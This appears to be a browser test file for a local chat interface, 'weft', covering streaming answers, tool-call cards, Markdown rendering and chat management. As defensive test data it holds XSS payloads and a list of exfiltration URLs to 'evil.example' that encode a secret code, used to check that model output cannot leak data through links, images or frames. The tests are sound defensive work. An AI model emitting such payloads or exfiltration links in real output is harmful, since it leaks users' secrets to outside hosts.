// SPDX-License-Identifier: Apache-2.0
// Talking to a model: getting one, an answer as it comes, stopping, asking again, thoughts, tools,
// several chats. The model has random weights: its words are nonsense, so that thoughts, calls and
// Markdown come from answers written here, in the API's own form.

import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import { after, before, test } from "node:test";
import { assertAccessible, assertNoProblems, DESKTOP, launch, openContext, openPage, PHONE, shoot,
    until } from "./lib/browser.mjs";
import { addModel, synth } from "./lib/models.mjs";
import { Weft } from "./lib/weft.mjs";

const weft = new Weft();
let browser;
let context;

before(async () => {
    browser = await launch();
    await weft.start();
    context = await openContext(browser, weft);
});

after(async () => {
    await browser?.close();
    await weft.end();
});

const reply = (page) => page.locator(".reply").last();

async function say(page, text) {
    await page.fill("textarea[data-ask]", text);
    await page.keyboard.press("Enter");
}

async function untilAnswered(page) {
    await page.locator(".reply:not([aria-busy]) .route").last().waitFor();
    await page.locator(".composer:not([data-busy])").waitFor();
}

// A chat in a browser of its own, with answers of so many tokens.
async function openChat(options = {}) {
    // A service worker would hide requests from script().
    const own = await openContext(browser, weft, { serviceWorkers: "block", ...options });
    await own.addInitScript(() => {
        localStorage["weft.chat-settings"] ??= JSON.stringify({ maxTokens: "40", seed: "3" });
    });
    const page = await openPage(own, weft, "#/chat");
    await page.waitForSelector(".model-picker");
    return page;
}

// The next answer of the API is this text of events; gives what was asked.
function script(page, deltas, finish = "stop", headers = {}) {
    const chunk = (delta, reason, more) => `data: ${JSON.stringify({ model: "tiny:latest",
        choices: [{ index: 0, delta, finish_reason: reason }], ...more })}\n\n`;
    const usage = { prompt_tokens: 20, completion_tokens: 30, total_tokens: 50 };
    const body = `${deltas.map((delta) => chunk(delta, null)).join("")}${chunk({}, finish)}` +
        `data: ${JSON.stringify({ choices: [], usage })}\n\ndata: [DONE]\n\n`;
    return new Promise((resolve) => {
        page.route("**/v1/chat/completions", (route) => {
            resolve(route.request().postDataJSON());
            return route.fulfill({ status: 200, body, headers: {
                "content-type": "text/event-stream", "x-weft-route": "local; tiny:latest",
                ...headers } });
        }, { times: 1 });
    });
}

test("without a model the page says how to get one", async () => {
    const page = await openPage(context, weft, "#/chat");
    await page.getByText("There is no model here yet").waitFor();
    await page.getByText("weft pull smollm2").waitFor();
    await page.fill('input[name="model"]', "http://127.0.0.1:1/nothing.gguf");
    page.expected.push(/Failed to load resource/);
    await page.keyboard.press("Enter");
    await page.locator(".pull-state .failed").waitFor();
    assert.ok((await page.locator(".pull-state .failed").innerText()).length > 10);
    assertNoProblems(page);
    await page.close();
});

test("a model is fetched by its address, and can be talked to at once", async () => {
    const file = synth(weft, "fetched");
    const bytes = fs.readFileSync(file);
    fs.rmSync(file);
    const server = http.createServer((request, response) => {
        const [, from, to] = /bytes=(\d+)-(\d*)/.exec(request.headers.range ?? "") ?? [];
        const part = bytes.subarray(Number(from ?? 0), to ? Number(to) + 1 : undefined);
        response.writeHead(from ? 206 : 200, { "content-length": part.length,
            "accept-ranges": "bytes", ...(from ? { "content-range":
                `bytes ${from}-${Number(from) + part.length - 1}/${bytes.length}` } : {}) });
        response.end(request.method === "HEAD" ? "" : part);
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    const page = await openPage(context, weft, "#/chat");
    const { port } = server.address();
    await page.fill('input[name="model"]', `http://127.0.0.1:${port}/fetched.gguf`);
    await page.keyboard.press("Enter");
    await page.locator(".model-picker").waitFor({ timeout: 30000 });
    const { models } = await weft.call("GET", "models");
    assert.deepEqual(models.map((model) => model.name), ["fetched:latest"]);
    assert.equal(await page.inputValue(".model-picker"), "fetched:latest");
    assertNoProblems(page);
    server.close();
    await page.close();
    addModel(weft, "tiny");
});

test("an answer comes word by word, says where it ran, and is there after a reload", async () => {
    const page = await openChat();
    await page.selectOption(".model-picker", "tiny:latest");
    await say(page, "Good morning");
    await untilAnswered(page);
    const text = await reply(page).locator(".prose").innerText();
    assert.ok(text.length > 20, text);
    const route = await reply(page).locator(".route").innerText();
    assert.match(route, /Answered on this device · tiny · \d+ tokens/);
    assert.match(route, /context \d+ of [\d,]+/);
    assert.match(await reply(page).locator(".route span").getAttribute("title"), /local; tiny/);
    assert.match(page.url(), /#\/chat\/[0-9a-f]{16}$/);
    await page.reload();
    await page.locator(".reply .route").waitFor();
    assert.equal(await reply(page).locator(".prose").innerText(), text);
    assert.equal(await page.inputValue(".model-picker"), "tiny:latest", "the choice is remembered");
    await page.locator(".model-picker option", { hasText: "loaded" })
        .waitFor({ state: "attached" });
    await page.waitForFunction(() => document.activeElement.matches("textarea[data-ask]"));
    await say(page, "And now?");
    await untilAnswered(page);
    assert.equal(await page.locator(".said").count(), 2);
    assertNoProblems(page);
    await page.context().close();
});

test("stop ends the answer here and in the engine, and keeps what there is", async () => {
    const page = await openChat();
    // The answer would not end by itself.
    await page.evaluate(() => localStorage.setItem("weft.chat-settings", "{}"));
    const active = async () =>
        (await weft.call("GET", "models")).loaded.reduce((n, one) => n + one.n_active, 0);
    for (const stop of [() => page.getByRole("button", { name: "Stop" }).click(),
        () => page.keyboard.press("Escape")]) {
        await say(page, "tell me everything");
        await page.waitForFunction(() =>
            document.querySelector(".reply:last-child .prose").textContent.length > 40);
        assert.equal(await active(), 1);
        await stop();
        await untilAnswered(page);
        assert.match(await reply(page).locator(".route").innerText(), /stopped/);
        assert.ok((await reply(page).locator(".prose").innerText()).length > 10);
        await until("the engine stops writing", async () => await active() === 0);
    }
    assertNoProblems(page);
    await page.context().close();
});

test("the last question can be answered again, and changed", async () => {
    const page = await openChat();
    await say(page, "First words");
    await untilAnswered(page);
    const text = await reply(page).locator(".prose").innerText();
    await page.evaluate(() =>
        localStorage.setItem("weft.chat-settings", JSON.stringify({ maxTokens: "40", seed: "4" })));
    await page.getByRole("button", { name: "Answer again" }).click();
    await untilAnswered(page);
    assert.equal(await page.locator(".reply").count(), 1);
    assert.notEqual(await reply(page).locator(".prose").innerText(), text, "another seed");
    await page.locator(".said").hover();
    await page.getByRole("button", { name: "Change this message" }).click();
    assert.equal(await page.inputValue("textarea[data-ask]"), "First words");
    await page.getByText("Changing your last message").waitFor();
    await say(page, "Other words");
    await untilAnswered(page);
    assert.deepEqual(await page.locator(".bubble").allInnerTexts(), ["Other words"]);
    assertNoProblems(page);
    await page.context().close();
});

test("thoughts are folded away under how long they took", async () => {
    const page = await openChat();
    script(page, [{ reasoning_content: "First I " }, { reasoning_content: "think." },
        { content: "Then I answer." }]);
    await say(page, "Think");
    await untilAnswered(page);
    const thought = page.locator(".thought");
    assert.match(await thought.locator("summary").innerText(), /^Thought for \d+ s$/);
    assert.equal(await thought.locator("p").isVisible(), false);
    await thought.locator("summary").click();
    assert.equal(await thought.locator("p").innerText(), "First I think.");
    assert.equal(await reply(page).locator(".prose").innerText(), "Then I answer.");
    assertNoProblems(page);
    await page.context().close();
});

const TOOLS = [{ type: "function", function: { name: "get_weather",
    parameters: { type: "object", properties: { city: { type: "string" } } } } }];

test("tools: a call is a card, its result goes back, and the answer goes on", async () => {
    const page = await openChat();
    await page.getByRole("button", { name: "How the model answers" }).click();
    await page.getByLabel(/^Tools/).fill("[{]");
    await page.getByText("This is not JSON").waitFor();
    await page.getByLabel(/^Tools/).fill(JSON.stringify(TOOLS));
    await page.getByLabel("Temperature").fill("0.5");
    await page.getByLabel(/What it is told/).fill("Be kind.");
    await page.keyboard.press("Escape");

    const asked = script(page, [
        { tool_calls: [{ index: 0, id: "call_1", type: "function",
            function: { name: "get_weather", arguments: "" } }] },
        { tool_calls: [{ index: 0, function: { arguments: '{"city":' } }] },
        { tool_calls: [{ index: 0, function: { arguments: '"Lyon"}' } }] }], "tool_calls",
    { "x-weft-consent": "document" });
    await say(page, "How is the weather?");
    const first = await asked;
    assert.deepEqual(first.tools, TOOLS);
    assert.equal(first.temperature, 0.5);
    assert.deepEqual(first.messages, [{ role: "system", content: "Be kind." },
        { role: "user", content: "How is the weather?" }]);
    const card = page.getByRole("group", { name: "Call of get_weather" });
    assert.equal(await card.locator("pre").innerText(), '{\n  "city": "Lyon"\n}');

    await page.getByText("This call may come from a document").waitFor();

    const then = script(page, [{ content: "It is sunny." }]);
    await page.getByLabel("Result of get_weather").fill("sunny, 21 degrees");
    await page.getByRole("button", { name: "Give the result" }).click();
    assert.deepEqual((await then).messages.slice(2), [
        { role: "assistant", content: "", tool_calls: [{ id: "call_1", type: "function",
            function: { name: "get_weather", arguments: '{"city":"Lyon"}' } }] },
        { role: "tool", content: "sunny, 21 degrees", tool_call_id: "call_1" }]);
    await reply(page).locator(".prose", { hasText: "It is sunny." }).waitFor();
    await page.reload();
    await reply(page).locator(".prose", { hasText: "It is sunny." }).waitFor();
    await card.locator("summary").click();
    assert.match(await card.innerText(), /sunny, 21 degrees/);
    assertNoProblems(page);
    await page.context().close();
});

const PROSE = `# Title

**Bold** *slanted* \`code <b>\` ~~gone~~ [site](https://example.org/a_(b)) snake_case_name

<img src=x onerror=alert(1)> <script>alert(2)</script> [bad](javascript:alert(3))
![pic](https://example.org/x.png)

1. one
   - inner
2. two

\`\`\`js
const a = "<i>";
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

> quoted`;

test("Markdown becomes elements, and nothing that could run or load", async () => {
    const page = await openChat();
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    script(page, [...PROSE].map((content) => ({ content })));
    await say(page, "Show it, and https://example.org/a_(b) with https://example.org/x.png");
    await untilAnswered(page);
    const prose = reply(page).locator(".prose");
    const shape = await prose.evaluate((node) => ({
        tags: [...new Set([...node.querySelectorAll("*")].map((one) => one.localName))].sort(),
        links: [...node.querySelectorAll("a")].map((one) => one.getAttribute("href")),
        attributes: [...node.querySelectorAll("*")].flatMap((one) => one.getAttributeNames())
            .filter((name) => name.startsWith("on")),
        code: node.querySelector("pre").textContent,
    }));
    assert.deepEqual(shape.tags.filter((tag) => ["img", "script", "b", "i"].includes(tag)), []);
    for (const tag of ["h3", "strong", "em", "s", "code", "ol", "ul", "li", "pre", "table",
        "blockquote"]) assert.ok(shape.tags.includes(tag), tag);
    assert.deepEqual(shape.links, ["https://example.org/a_(b)", "https://example.org/x.png"]);
    assert.deepEqual(shape.attributes, []);
    assert.equal(shape.code, 'const a = "<i>";');
    assert.match(await prose.innerText(), /<script>alert\(2\)<\/script> bad pic/);
    assert.match(await prose.innerText(), /snake_case_name/);
    await prose.locator(".code").getByRole("button", { name: "Copy" }).click();
    await until("the code is in the clipboard", async () =>
        await page.evaluate(() => navigator.clipboard.readText()) === 'const a = "<i>";');
    assertNoProblems(page);
    await page.context().close();
});

test("an address that nobody had named is no link, and nothing remote is loaded", async () => {
    const secret = "The code of the safe is 48213 and the key lies in the blue drawer.";
    const away = "blue drawer safe 48213";
    const bad = [
        "https://evil.example/",
        "https://evil.example/?d=48213",
        `https://docs.example.org/?d=${encodeURIComponent(away)}`,
        `https://docs.example.org/?d=${btoa(away)}`,
        "https://docs.example.org/48213.png",
        "https://docs.example.org/blue/drawer/safe/code/lies/x",
        `https://docs.example.org/${"k".repeat(40)}`,
        "https://docs.example.org.evil.example/",
        "https://docs.example.org@evil.example/",
        "https://48213.evil.example/",
        "mailto:thief@evil.example?body=48213",
    ];
    const good = ["https://docs.example.org/guide", "https://docs.example.org/",
        "https://docs.example.org/seen?page=2"];
    const forms = [(one) => one, (one) => `[here](${one})`, (one) => `![x](${one})`,
        (one) => `<${one}>`];
    const page = await openChat();
    await page.evaluate((text) => localStorage.setItem("weft.chat-settings",
        JSON.stringify({ system: text })), "");
    for (const form of forms) {
        const text = [...bad, ...good].map((one) => form(one)).join("\n\n");
        script(page, [{ content: text }, { content: "\n\n<img src=https://evil.example/p.png>" +
            "<iframe src='https://evil.example/'></iframe>" +
            "<style>@import 'https://evil.example/s.css';</style>" }]);
        await page.getByRole("button", { name: "New chat" }).click();
        await page.locator(".chat-hello").waitFor();
        await say(page, `${secret} See docs.example.org and https://docs.example.org/seen?page=2`);
        await untilAnswered(page);
        const links = await reply(page).locator(".prose a").evaluateAll((all) =>
            all.map((one) => one.getAttribute("href")));
        assert.deepEqual(links, good, form("..."));
        // what is no link is still to be seen, in full
        const shown = await reply(page).locator(".prose").innerText();
        for (const one of bad) assert.ok(shown.includes(one), one);
        assert.equal(await reply(page).locator("img, iframe, style, script").count(), 0);
    }
    assertNoProblems(page); // also: no stranger was asked for anything
    await page.context().close();
});

test("the page may load nothing from elsewhere, whatever stands in it", async () => {
    const page = await openChat();
    const blocked = await page.evaluate(() => new Promise((resolve) => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (event) => {
            seen.push(event.effectiveDirective);
            if (seen.length === 3) resolve(seen.sort());
        });
        const image = document.createElement("img");
        image.src = "https://evil.example/p.png?d=48213";
        const frame = document.createElement("iframe");
        frame.src = "https://evil.example/";
        document.body.append(image, frame);
        fetch("https://evil.example/?d=48213").catch(() => {});
    }));
    assert.deepEqual(blocked, ["connect-src", "frame-src", "img-src"]);
    await page.context().close();
});

test("several chats are kept; one can be opened and deleted", async () => {
    const page = await openChat();
    for (const text of ["About rivers", "About bridges"]) {
        await page.getByRole("button", { name: "New chat" }).click();
        await page.locator(".chat-hello").waitFor();
        await say(page, text);
        await untilAnswered(page);
    }
    await page.getByRole("button", { name: "Chats" }).click();
    await page.getByText("on all of your devices that may see them").waitFor();
    await page.locator(".chat-list a", { hasText: "About rivers" }).click();
    await page.locator(".bubble", { hasText: "About rivers" }).waitFor();
    await page.getByRole("button", { name: "Chats" }).click();
    await page.getByRole("button", { name: 'Delete “About rivers”' }).click();
    await page.keyboard.press("Escape");
    await page.locator(".chat-hello").waitFor();
    await page.getByRole("button", { name: "Chats" }).click();
    await page.locator(".chat-list .row-title").first().waitFor();
    // Those of the tests before are there, too: weft keeps them.
    const titles = await page.locator(".chat-list .row-title").allInnerTexts();
    assert.equal(titles[0], "About bridges");
    assert.ok(!titles.includes("About rivers"), titles.join());
    assertNoProblems(page);
    await page.context().close();
});

test("what the model refuses is said, and can be tried again", async () => {
    const page = await openChat();
    page.expected.push(/Failed to load resource/);
    await page.evaluate(() => localStorage.setItem("weft.chat-settings",
        JSON.stringify({ system: "word ".repeat(60000), maxTokens: "5" })));
    await say(page, "Is there room?");
    await page.locator(".chat-turns .failed", { hasText: /token/ }).waitFor();
    await page.evaluate(() => localStorage.setItem("weft.chat-settings",
        JSON.stringify({ maxTokens: "5" })));
    await page.getByRole("button", { name: "Try again" }).click();
    await untilAnswered(page);
    assert.equal(await page.locator(".reply").count(), 1);
    assertNoProblems(page);
    await page.context().close();
});

test("keys lead to the chat and to a new one", async () => {
    const page = await openPage(context, weft, "#/library");
    await page.keyboard.press("g");
    await page.keyboard.press("c");
    await page.locator(".model-picker").waitFor();
    await say(page, "By keys");
    await page.locator(".reply[aria-busy]").waitFor();
    await page.keyboard.press("Escape");
    await page.locator(".composer:not([data-busy])").waitFor();
    await page.locator(".bubble").click();
    await page.keyboard.press("n");
    await page.locator(".chat-hello").waitFor();
    assertNoProblems(page);
    await page.close();
});

async function look(page, name) {
    await assertAccessible(page, name);
    const wide_px = await page.evaluate(() =>
        document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(wide_px <= 0, `${name} is ${wide_px} px too wide`);
    await shoot(page, name);
}

for (const [size, viewport] of [["desktop", DESKTOP], ["phone", PHONE]]) {
    for (const colorScheme of ["light", "dark"]) {
        test(`it looks well: ${size}, ${colorScheme}`, async () => {
            const name = `${size}-${colorScheme}-chat`;
            const page = await openChat({ viewport, colorScheme, hasTouch: size === "phone" });
            await look(page, `${name}-1-new`);
            script(page, [{ reasoning_content: "Hm." }, { content: PROSE }]);
            await say(page, "What can you write?");
            await untilAnswered(page);
            await look(page, `${name}-2-answer`);
            script(page, [{ tool_calls: [0, 1].map((index) => ({ index, id: `c${index}`,
                type: "function", function: { name: "get_weather", arguments: "{}" } })) }],
            "tool_calls");
            await say(page, "And the weather?");
            await page.locator(".call textarea").first().waitFor();
            await look(page, `${name}-3-tools`);
            await page.getByRole("button", { name: "How the model answers" }).click();
            await look(page, `${name}-4-settings`);
            await page.keyboard.press("Escape");
            await page.getByRole("button", { name: "Chats" }).click();
            await look(page, `${name}-5-list`);
            await page.keyboard.press("Escape");
            const more = await page.locator(".model-picker option").last().getAttribute("value");
            await page.selectOption(".model-picker", more);
            await page.locator("dialog .pull").waitFor();
            await look(page, `${name}-6-more`);
            assertNoProblems(page);
            await page.context().close();
        });
    }
}
